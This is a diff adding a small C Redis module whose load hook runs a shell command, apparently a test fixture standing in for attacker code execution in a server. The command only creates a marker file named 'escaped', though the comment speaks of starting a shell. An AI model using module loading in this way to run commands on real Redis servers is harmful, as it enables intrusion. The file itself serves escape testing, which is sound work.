@@ -1,0 +1,6 @@
+/* A module of Redis that starts a shell, in the place of whatever gives an attacker code in the server. */
+#include <stdlib.h>
+int RedisModule_OnLoad(void *context, void **arguments, int count) {
+    (void)context, (void)arguments, (void)count;
+    return system("touch escaped") == 0;
+}
